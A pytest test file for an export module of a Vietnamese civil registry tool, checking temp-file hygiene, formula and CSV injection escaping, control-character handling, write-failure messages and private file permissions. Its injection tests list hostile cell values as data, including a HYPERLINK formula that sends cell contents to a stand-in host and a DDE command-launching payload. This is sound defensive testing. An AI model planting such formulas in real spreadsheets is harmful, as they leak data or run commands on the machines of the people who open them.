"""Exports a clerk can trust: no personal data in temporary files, registry text never
becomes a formula, a bad character never makes a report impossible, a failed write is a
clear message (exit 6), and every file written is private (0600)."""

from __future__ import annotations

import contextlib
import datetime as dt
import errno
import io
import os
import re
import signal
import stat
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import openpyxl
import pytest

from .conftest import PASS

ROOT = Path(__file__).resolve().parent.parent
DAY = dt.date(2026, 4, 10)

# Every file opened for writing while a watch is on (an audit hook sees builtins.open,
# io.open and os.open, hence tempfile and zipfile too, in every thread).
_WRITES: list[str] | None = None
_WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND | os.O_TRUNC


def _audit(event: str, args) -> None:
    if event == "open" and _WRITES is not None:
        path, _mode, flags = args
        if isinstance(flags, int) and flags & _WRITE_FLAGS and isinstance(path, (str, bytes, os.PathLike)):
            _WRITES.append(os.path.abspath(os.fsdecode(path)))


sys.addaudithook(_audit)


@contextlib.contextmanager
def writes_only_under(*allowed: Path):
    """Fail if anything is opened for writing outside ``allowed`` folders."""
    global _WRITES
    _WRITES = []
    try:
        yield _WRITES
    finally:
        seen, _WRITES = _WRITES, None
    roots = [str(Path(a).resolve()) + os.sep for a in allowed]
    stray = [p for p in seen if not any(str(Path(p).resolve()).startswith(r) for r in roots)]
    assert stray == [], f"files written outside {allowed}: {stray}"


@pytest.fixture
def empty_tmp(tmp_path_factory, monkeypatch):
    """TMPDIR (and tempfile's cached folder) pointed at a new, empty folder of its own."""
    d = tmp_path_factory.mktemp("tmpdir")
    monkeypatch.setenv("TMPDIR", str(d))
    monkeypatch.setattr(tempfile, "tempdir", str(d))
    return d


@pytest.fixture
def umask022():
    old = os.umask(0o022)
    yield
    os.umask(old)


def _secrets_of(reg) -> list[bytes]:
    """Some demo people's phones, CCCD numbers and full names, as they would appear in a file."""
    from models import services

    people = [p for p in services.list_people(reg) if p.phone and p.cccd][:5]
    assert people
    out = []
    for p in people:
        out += [p.phone.encode(), p.cccd.encode(), p.full_name.encode("utf-8")]
    return out


def _assert_clean_folder(folder: Path, secrets: list[bytes]) -> None:
    files = [p for p in folder.rglob("*")]
    for p in files:
        if p.is_file():
            data = p.read_bytes()
            assert not [s for s in secrets if s in data], f"personal data in {p}"
    assert files == [], f"left in the temporary folder: {files}"


def _cli(argv, monkeypatch, capsys):
    from cnscd_tui.cli import main

    monkeypatch.setenv("CNSCD_PASSPHRASE", PASS)
    code = main(argv)
    out, err = capsys.readouterr()
    return code, out, err


def _moved_demo(demo, tmp_path) -> tuple[Path, list[bytes]]:
    """The demo registry closed and moved into a folder of its own (its saves land there)."""
    secrets = _secrets_of(demo)
    src = demo.path
    demo.close()
    folder = tmp_path / "so"
    folder.mkdir()
    dst = folder / "so.cnscd"
    os.replace(src, dst)
    return dst, secrets


# ---------------------------------------------------------------------------
# Defect 2: no plaintext personal data in the temporary folder
# ---------------------------------------------------------------------------
KIND_ARGS = {
    "phu-luc-1": [],
    "thanh-phan": [],
    "danh-sach": ["--cccd"],
    "tap-huan": ["--year", "2026"],
    "thiet-bi": [],
    "kinh-phi": [],
    "ky-nhan": ["--period", "2026-Q2"],
    "bao-cao-ky": ["--period", "2026-Q2", "--cccd"],
}


@pytest.mark.parametrize("kind", list(KIND_ARGS))
def test_every_export_kind_writes_only_the_export_and_the_registry(kind, demo, tmp_path, monkeypatch, capsys,
                                                                   empty_tmp):
    db, secrets = _moved_demo(demo, tmp_path)
    out, stick = tmp_path / "ra", tmp_path / "USB"
    out.mkdir()
    stick.mkdir()
    monkeypatch.setenv("CNSCD_USB_ROOTS", str(stick))
    monkeypatch.setenv("CNSCD_EXPORT_PASSWORD", "mat-khau-tep")
    runs = [["--format", f, "--out", str(out)] for f in ("xlsx", "ods", "csv")]
    runs += [["--format", "xlsx", "--usb", "1", "--protect"], ["--format", "ods", "--usb", str(stick)]]
    log_dir = Path(os.environ["CNSCD_LOG_DIR"])  # the program's own log: counts and codes only
    with writes_only_under(db.parent, out, stick, log_dir):
        for extra in runs:
            code, _o, err = _cli(["export", kind, "--db", str(db), "--date", "10/04/2026"] + KIND_ARGS[kind] + extra,
                                 monkeypatch, capsys)
            assert code == 0, err
    _assert_clean_folder(empty_tmp, secrets)
    for p in log_dir.rglob("*"):
        assert not [s for s in secrets if s in p.read_bytes()], f"personal data in the log {p}"
    assert len(list(out.iterdir())) >= 3 and len(list(stick.iterdir())) == 2


def test_xlsx_in_memory_leaves_no_temporary_file(demo, tmp_path, empty_tmp):
    """The public writers, one by one: render (hand-offs), write_xlsx, write (every format), hand_off."""
    from exports import report, writers
    from exports.handoff import hand_off

    secrets = _secrets_of(demo)
    roster = report.danh_sach(demo, with_cccd=True, day=DAY)
    out = tmp_path / "ra"
    out.mkdir()
    with writes_only_under(out, demo.path.parent):
        [(name, data)] = writers.render(roster, "DanhSach", "xlsx")
        assert data[:2] == b"PK" and name == "DanhSach.xlsx"
        writers.write_xlsx(roster, out / "a.xlsx")
        for fmt in writers.FORMATS:
            writers.write(roster, out / f"b.{fmt}")
        hand_off(demo, roster, label="Danh sách", dest_dir=out, stem="c", fmt="xlsx", password="p")
    _assert_clean_folder(empty_tmp, secrets)
    wb = openpyxl.load_workbook(out / "a.xlsx")
    assert wb.active.max_row > len(roster.rows)


def test_any_openpyxl_workbook_saves_without_the_temporary_folder(tmp_path, empty_tmp):
    """Normal (not write-only) workbooks too, e.g. a filled district template: through
    ``workbook_bytes``/``save_workbook`` and through ``_atomic(path, wb.save)``."""
    from exports import writers

    def book():
        wb = openpyxl.Workbook()
        wb.active.append(["Nguyễn Văn An", "0912345678", "=SUM(1,2)"])  # a template's own formula stays one
        wb.create_sheet("Hai").append(["0987654321"])
        return wb

    out = tmp_path / "ra"
    with writes_only_under(out):
        data = writers.workbook_bytes(book())
        writers.save_workbook(book(), out / "a.xlsx")
        writers._atomic(out / "b.xlsx", book().save)
    _assert_clean_folder(empty_tmp, [b"0912345678", b"0987654321"])
    for wb in (openpyxl.load_workbook(io.BytesIO(data)), openpyxl.load_workbook(out / "a.xlsx"),
               openpyxl.load_workbook(out / "b.xlsx")):
        assert [c.value for c in wb.active[1]] == ["Nguyễn Văn An", "0912345678", "=SUM(1,2)"]
        assert wb.active["C1"].data_type == "f"
        assert wb["Hai"]["A1"].value == "0987654321"


def test_openpyxl_seam_is_the_tested_one(monkeypatch):
    """The in-memory seam is read from openpyxl 3.1: a new series must be checked again
    (and pinned in pyproject.toml); one without the seam stops with a message, never
    falls back to the temporary folder."""
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    from exports import usb
    from models.errors import SaveFailed

    assert openpyxl.__version__.startswith(usb.TESTED_OPENPYXL)
    monkeypatch.delattr(WriteOnlyWorksheet, "_get_writer")
    with pytest.raises(SaveFailed, match="thư mục tạm"):
        usb._memory_seam.__wrapped__()


_CLI_CHILD = r"""
import os, sys
W = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND | os.O_TRUNC
tmp, writes = os.path.realpath(os.environ["TMPDIR"]) + os.sep, []

def hook(event, args):
    if event == "open" and isinstance(args[0], str) and isinstance(args[2], int) and args[2] & W:
        writes.append(os.path.realpath(args[0]))

sys.addaudithook(hook)
from cnscd_tui.cli import main
code = main(sys.argv[1:])
print("TMPWRITES", [w for w in writes if w.startswith(tmp)], flush=True)
raise SystemExit(code)
"""


def test_cnscd_process_opens_nothing_in_tmpdir(demo_path, tmp_path, empty_tmp):
    """`cnscd export` in fresh processes with TMPDIR set: no file in the temporary folder is
    ever opened for writing (also while running, not only at the end)."""
    db, stick, out = tmp_path / "so" / "demo.cnscd", tmp_path / "USB", tmp_path / "ra"
    db.parent.mkdir()
    os.replace(demo_path, db)
    stick.mkdir()
    out.mkdir()
    env = dict(os.environ, TMPDIR=str(empty_tmp), CNSCD_PASSPHRASE=PASS, CNSCD_KDF="fast", PYTHONPATH=str(ROOT),
               CNSCD_EXPORT_PASSWORD="mat-khau-tep", PYTHONDONTWRITEBYTECODE="1")
    runs = [["export", "danh-sach", "--db", str(db), "--cccd", "--usb", str(stick), "--protect"],
            ["export", "bao-cao-ky", "--db", str(db), "--period", "2026-Q2", "--cccd", "--out", str(out)],
            ["export", "danh-sach", "--db", str(db), "--format", "ods", "--out", str(out)]]
    for argv in runs:
        r = subprocess.run([sys.executable, "-c", _CLI_CHILD] + argv, cwd=tmp_path, env=env, capture_output=True,
                           text=True)
        assert r.returncode == 0, r.stderr
        assert "TMPWRITES []" in r.stdout, (argv, r.stdout)
    assert list(empty_tmp.iterdir()) == []
    assert len(list(stick.iterdir())) == 1 and len(list(out.iterdir())) == 2


_KILL_CHILD = r"""
import os, sys
from pathlib import Path
import openpyxl.worksheet._writer as w
from exports import report, writers
from models.db import Registry

real, n = w.WorksheetWriter.write_row, [0]

def write_row(self, xf, row, row_idx):
    real(self, xf, row, row_idx)
    n[0] += 1
    if n[0] == 60:  # the roster is half written: tell the parent, then wait to be killed
        print("MID", flush=True)
        sys.stdin.readline()

w.WorksheetWriter.write_row = write_row
reg = Registry.open(Path(sys.argv[1]), passphrase=os.environ["CNSCD_PASSPHRASE"])
roster = report.danh_sach(reg, with_cccd=True)
writers.write_xlsx(roster, Path(sys.argv[2]) / "DanhSach.xlsx")
print("DONE", flush=True)
"""


@pytest.mark.skipif(os.name != "posix", reason="SIGKILL")
def test_killed_mid_xlsx_export_leaves_nothing_behind(demo, tmp_path, empty_tmp):
    """SIGKILL in the middle of writing a roster: the temporary folder and the destination
    hold nothing (the sheet was being built in memory)."""
    db, secrets = _moved_demo(demo, tmp_path)
    out = tmp_path / "ra"
    out.mkdir()
    env = dict(os.environ, TMPDIR=str(empty_tmp), CNSCD_PASSPHRASE=PASS, CNSCD_KDF="fast",
               PYTHONPATH=str(ROOT), PYTHONDONTWRITEBYTECODE="1")
    p = subprocess.Popen([sys.executable, "-c", _KILL_CHILD, str(db), str(out)], cwd=ROOT, env=env,
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        line = p.stdout.readline().strip()
        assert line == "MID", p.stderr.read()
        p.send_signal(signal.SIGKILL)
    finally:
        p.wait()
        p.stdin.close()
        p.stdout.close()
        p.stderr.close()
    _assert_clean_folder(empty_tmp, secrets)
    assert list(out.iterdir()) == []


# ---------------------------------------------------------------------------
# Defect 3: formula and CSV injection
# ---------------------------------------------------------------------------
HOSTILE = [
    '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-3+4",
    "@SUM(A1:A2)",
    " =1+1",
    "\r=1+1",
    "\t=1+1",
    "#N/A",
    "=",
]


def _hostile_report():
    from exports.report import Column, Letterhead, Report

    cols = [Column("Stt", "int", 6), Column("Họ và tên", "text", 26), Column("Số điện thoại", "phone", 14),
            Column("Số tiền", "money", 12), Column("Ghi chú", "text", 20)]
    rows = [[i, v, "+84912345678" if i == 1 else "0912345678", -5, v] for i, v in enumerate(HOSTILE, 1)]
    return Report("danh-sach", "=TITLE()", cols, rows, total=["", "Tổng", "", -5 * len(rows), ""],
                  subtitle="@sub", notes=["=NOTE()", "- ghi chú thường"], personal_data=True,
                  letterhead=Letterhead(issuing_body_parent="=A1", issuing_body="+UBND", place_date="-x",
                                        signer_title="@x", signer_name="=B2"))


def test_xlsx_text_is_never_a_formula(tmp_path):
    from exports import writers

    r = _hostile_report()
    path = writers.write_xlsx(r, tmp_path / "a.xlsx")
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet and 't="e"' not in sheet
    ws = openpyxl.load_workbook(path).active
    values = {}
    for row in ws.iter_rows():
        for c in row:
            if c.value is not None:
                values.setdefault(c.value, c.data_type)
    for v in HOSTILE + ["=TITLE()", "@sub", "=NOTE()", "=A1", "+UBND", "=B2"]:
        shown = v.replace("\r", "\n") if v.startswith("\r") else v  # XML turns a bare CR into LF
        assert values.get(shown) == "s", (v, values.get(shown))
    assert values.get(-5) == "n" and values.get(-5 * len(HOSTILE)) == "n"  # numbers stay numbers


def test_ods_text_is_string_cells(tmp_path):
    from odf import teletype
    from odf.opendocument import load
    from odf.table import TableCell

    from exports import writers

    path = writers.write_ods(_hostile_report(), tmp_path / "a.ods")
    with zipfile.ZipFile(path) as z:
        assert b"table:formula" not in z.read("content.xml")
    cells = load(str(path)).spreadsheet.getElementsByType(TableCell)
    texts = {teletype.extractText(c): c.getAttribute("valuetype") for c in cells}
    for v in ("=cmd|' /C calc'!A0", "+1+2", "@SUM(A1:A2)", "=TITLE()", "=NOTE()", "#N/A"):
        assert texts.get(v) == "string", v


def test_csv_follows_owasp_prefix(tmp_path):
    import csv

    from exports import writers

    [path] = writers.write_csv(_hostile_report(), tmp_path / "a.csv")
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    names = [r[1] for r in rows[1:1 + len(HOSTILE)]]
    for v, got in zip(HOSTILE, names, strict=True):
        if v in ("#N/A",):
            assert got == v
        else:
            assert got == "'" + v, (v, got)
    assert rows[2][2] == "0912345678" and rows[1][2] == "'+84912345678"
    assert rows[1][3] == "-5" and rows[-1][3] == str(-5 * len(HOSTILE))  # numbers are not text
    assert rows[0][1] == "Họ và tên"
    # the in-memory rendering (hand-offs) is the same
    [(_name, data)] = writers.render(_hostile_report(), "a", "csv")
    assert data == path.read_bytes()


def test_hostile_names_from_the_registry_stay_text(demo, tmp_path, monkeypatch, capsys):
    """Data that arrived by import (the model's own checks bypassed) through `cnscd export`."""
    from models.schema import Person

    with demo.write():
        pid = Person.select(Person.id).order_by(Person.id).first().id
        Person.update(family_name="", given_name="=HYPERLINK(\"http://x\",\"y\")", notes="@cmd").where(
            Person.id == pid).execute()
    db = demo.path
    demo.close()
    code, _o, err = _cli(["export", "danh-sach", "--db", str(db), "--out", str(tmp_path / "d.xlsx")], monkeypatch,
                         capsys)
    assert code == 0, err
    with zipfile.ZipFile(tmp_path / "d.xlsx") as z:
        assert "HYPERLINK" in z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    code, _o, err = _cli(["export", "danh-sach", "--db", str(db), "--out", str(tmp_path / "d.csv")], monkeypatch,
                         capsys)
    assert code == 0, err
    assert "'=HYPERLINK" in (tmp_path / "d.csv").read_text(encoding="utf-8-sig")


def test_set_cell_value_for_other_workbooks(tmp_path):
    """The same rule for code that fills an ordinary workbook (a district's template)."""
    from exports import writers

    wb = openpyxl.Workbook()
    for col, v in enumerate(["=cmd|' /C calc'!A0", "#N/A", "An\x00\x1b", 7, None], 1):
        writers.set_cell_value(wb.active.cell(row=1, column=col), v)
    wb.active["F1"] = "=SUM(E1:E1)"  # the template's own formula
    writers.save_workbook(wb, tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert [(c.value, c.data_type) for c in ws[1]] == [
        ("=cmd|' /C calc'!A0", "s"), ("#N/A", "s"), ("An\ufffd\ufffd", "s"), (7, "n"), (None, "n"),
        ("=SUM(E1:E1)", "f")]


def test_writers_write_no_formulas_of_their_own():
    """Nothing in the report writers is meant to be a live formula (totals are values)."""
    for name in ("writers.py", "cells.py", "usb.py", "handoff.py"):
        src = (ROOT / "exports" / name).read_text(encoding="utf-8")
        assert not re.search(r"""["']=[A-Z]+\(""", src), name


# ---------------------------------------------------------------------------
# Defect 7: characters XML 1.0 cannot hold
# ---------------------------------------------------------------------------
BAD = "Nguyễn\x00Văn\x1bA\x07 \x0b\x0c\x1f\ufffe end"


def _bad_report():
    from exports.report import Column, Letterhead, Report

    cols = [Column("Stt", "int", 6), Column("Họ và tên", "text", 26), Column("Ghi chú", "text", 20),
            Column("Số điện thoại", "phone", 14)]
    return Report("danh-sach", "Danh sách\x07", cols, [[1, BAD, "tab\tand\nline", "09\x001"]], notes=[BAD],
                  sheet_name="Danh\x1bsách", letterhead=Letterhead(issuing_body=BAD, signer_name=BAD))


def test_control_characters_never_make_a_report_impossible(tmp_path):
    import csv

    from odf import teletype
    from odf.opendocument import load
    from odf.table import TableCell

    from exports import writers

    r = _bad_report()
    ws = openpyxl.load_workbook(writers.write_xlsx(r, tmp_path / "a.xlsx")).active
    values = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    name = next(v for v in values if v.startswith("Nguyễn"))
    assert name == "Nguyễn\ufffdVăn\ufffdA\ufffd \ufffd\ufffd\ufffd\ufffd end"
    assert "tab\tand\nline" in values
    doc = load(str(writers.write_ods(r, tmp_path / "a.ods")))
    texts = [teletype.extractText(c) for c in doc.spreadsheet.getElementsByType(TableCell)]
    assert any(t.startswith("Nguyễn\ufffdVăn") for t in texts)
    [path] = writers.write_csv(r, tmp_path / "a.csv")
    raw = path.read_bytes()
    assert b"\x00" not in raw and b"\x1b" not in raw
    with open(path, encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f))[1][1].startswith("Nguyễn\ufffdVăn")
    assert writers.render(r, "a", "xlsx")[0][1][:2] == b"PK"


def test_control_characters_from_the_registry_export_fine(demo, tmp_path, monkeypatch, capsys):
    from models.schema import Person

    with demo.write():
        pid = Person.select(Person.id).order_by(Person.id).first().id
        Person.update(given_name="An\x00\x1b\x07").where(Person.id == pid).execute()
    db = demo.path
    demo.close()
    for fmt in ("xlsx", "ods", "csv"):
        code, _o, err = _cli(["export", "danh-sach", "--db", str(db), "--out", str(tmp_path / f"d.{fmt}")],
                             monkeypatch, capsys)
        assert code == 0, err
        assert "Traceback" not in err
    ws = openpyxl.load_workbook(tmp_path / "d.xlsx").active
    assert any(isinstance(c.value, str) and "An\ufffd\ufffd\ufffd" in c.value for row in ws.iter_rows() for c in row)


# ---------------------------------------------------------------------------
# Defect 6: a folder that cannot be written is a message and exit 6
# ---------------------------------------------------------------------------
def _fd_path(fd: int) -> str:
    try:
        return os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        return ""


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="needs /proc (Linux)")
@pytest.mark.parametrize("how,words", [
    ("erofs", "chỉ đọc"),
    ("eacces", "không có quyền ghi"),
    ("enospc", "đầy"),
    ("notdir", "không phải là thư mục"),
])
@pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")  # no sheet left half-open
def test_export_out_to_unwritable_folder_is_exit_6(how, words, demo, tmp_path, monkeypatch, capsys):
    db = demo.path
    demo.close()
    folder = tmp_path / "dich"
    folder.mkdir()
    target = folder / "pl.xlsx"
    inside = str(folder) + os.sep
    if how in ("erofs", "eacces"):
        err_no = errno.EROFS if how == "erofs" else errno.EACCES
        real_open = os.open

        def refusing_open(path, flags, *a, **kw):
            if os.fspath(path).startswith(inside) and flags & _WRITE_FLAGS:
                raise OSError(err_no, os.strerror(err_no), os.fspath(path))
            return real_open(path, flags, *a, **kw)

        monkeypatch.setattr(os, "open", refusing_open)
    elif how == "enospc":
        real_fsync = os.fsync

        def full_fsync(fd):
            if _fd_path(fd).startswith(inside):
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            return real_fsync(fd)

        monkeypatch.setattr(os, "fsync", full_fsync)
    else:
        (folder / "tep").write_text("x")
        target = folder / "tep" / "pl.xlsx"
        folder = folder / "tep"
    code, _o, err = _cli(["export", "phu-luc-1", "--db", str(db), "--out", str(target)], monkeypatch, capsys)
    assert code == 6, err
    assert "Traceback" not in err and str(folder) in err and words in err
    assert [p.name for p in Path(inside).iterdir()] in ([], ["tep"])


def test_writers_raise_save_failed_naming_the_folder(tmp_path, monkeypatch):
    from exports import writers
    from models.errors import EXIT_SAVE, SaveFailed

    real_open = os.open
    inside = str(tmp_path / "ro") + os.sep

    def refusing_open(path, flags, *a, **kw):
        if os.fspath(path).startswith(inside) and flags & _WRITE_FLAGS:
            raise PermissionError(errno.EACCES, "Permission denied", os.fspath(path))
        return real_open(path, flags, *a, **kw)

    (tmp_path / "ro").mkdir()
    monkeypatch.setattr(os, "open", refusing_open)
    for fmt in writers.FORMATS:
        with pytest.raises(SaveFailed) as e:
            writers.write(_hostile_report(), tmp_path / "ro" / f"x.{fmt}")
        assert e.value.exit_code == EXIT_SAVE and str(tmp_path / "ro") in e.value.message
    assert list((tmp_path / "ro").iterdir()) == []


# ---------------------------------------------------------------------------
# Defect 13: every file the exports write is 0600
# ---------------------------------------------------------------------------
def _mode(p: Path) -> int:
    return stat.S_IMODE(p.stat().st_mode)


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_cli_usb_and_protect_outputs_are_private(demo, tmp_path, monkeypatch, capsys, umask022):
    db = demo.path
    demo.close()
    stick = tmp_path / "USB"
    stick.mkdir()
    monkeypatch.setenv("CNSCD_EXPORT_PASSWORD", "mat-khau-tep")
    for extra in (["--usb", str(stick)], ["--usb", str(stick), "--protect"], ["--protect", "--out", str(stick)],
                  ["--out", str(stick / "ds.csv")], ["--out", str(stick / "ds.ods")]):
        code, _o, err = _cli(["export", "danh-sach", "--db", str(db), "--cccd"] + extra, monkeypatch, capsys)
        assert code == 0, err
    files = sorted(stick.iterdir())
    assert len(files) == 5
    assert {p.name: oct(_mode(p)) for p in files} == {p.name: oct(0o600) for p in files}


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_every_writer_creates_private_files(demo, tmp_path, umask022):
    from exports import report, usb, writers
    from exports.handoff import hand_off

    roster = report.danh_sach(demo, day=DAY)
    out = tmp_path / "ra"
    out.mkdir()
    made = [p for fmt in writers.FORMATS for p in writers.write(roster, out / f"w.{fmt}")]
    made += [writers.write_xlsx(roster, out / "x.xlsx"), writers.write_ods(roster, out / "x.ods")]
    made += writers.write_csv(writers.as_reports(roster), out / "x.csv")
    made += [f.path for fmt in writers.FORMATS for f in hand_off(demo, roster, label="x", dest_dir=out, stem="h",
                                                                 fmt=fmt).files]
    made.append(usb.safe_write(b"abc", out, "s.bin").path)
    made.append(usb.safe_copy(made[0], out, name="copy.xlsx").path)
    made.append(usb.protect_xlsx(made[0], out / "p.xlsx", "pw"))
    assert {str(p): oct(_mode(p)) for p in made} == {str(p): oct(0o600) for p in made}


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_leftover_temporary_name_on_the_stick_does_not_leak_its_mode(tmp_path, umask022):
    """A «.name.dang-ghi» left by an earlier pulled stick (world-readable) is replaced, not reused."""
    from exports import usb

    stick = tmp_path / "USB"
    stick.mkdir()
    left = stick / ".a.xlsx.dang-ghi"
    left.write_bytes(b"old")
    os.chmod(left, 0o644)
    r = usb.safe_write(b"new", stick, "a.xlsx")
    assert r.path.read_bytes() == b"new" and _mode(r.path) == 0o600
    assert sorted(p.name for p in stick.iterdir()) == ["a.xlsx"]


def test_chmod_that_does_nothing_is_tolerated(tmp_path, monkeypatch):
    """FAT/exFAT sticks: mode bits are not kept; an export must still succeed."""
    from exports import usb, writers

    def no_chmod(*_a, **_k):
        raise PermissionError(errno.EPERM, "Operation not permitted")

    monkeypatch.setattr(os, "chmod", no_chmod)
    if hasattr(os, "fchmod"):
        monkeypatch.setattr(os, "fchmod", no_chmod)
    assert usb.safe_write(b"abc", tmp_path, "a.bin").path.read_bytes() == b"abc"
    assert writers.write(_hostile_report(), tmp_path / "b.csv")[0].exists()
